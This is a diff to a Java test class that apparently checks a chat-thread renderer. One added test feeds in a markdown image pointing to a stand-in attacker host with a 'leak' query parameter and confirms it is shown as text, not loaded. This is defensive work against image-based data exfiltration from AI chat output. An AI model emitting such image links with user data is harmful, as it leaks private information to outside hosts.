@@ -25,6 +25,12 @@ class ThreadViewTest {
     }
 
     @Test
+    void imagesAreNamedNeverLoaded() {
+        ThreadView.Message m = ThreadView.message("user", "look: ![secret chart](https://attacker.example/?d=leak)", null);
+        assertThat(m.html()).doesNotContain("<img").contains("[image: secret chart — https://attacker.example/?d=leak]");
+    }
+
+    @Test
     void reasoningIsKeptApartFromTheAnswer() {
         ThreadView.Message think = ThreadView.message("assistant", "<think>Step one.\nStep two.</think>The answer is 4.", null);
         assertThat(think.html()).contains("The answer is 4.").doesNotContain("Step one");
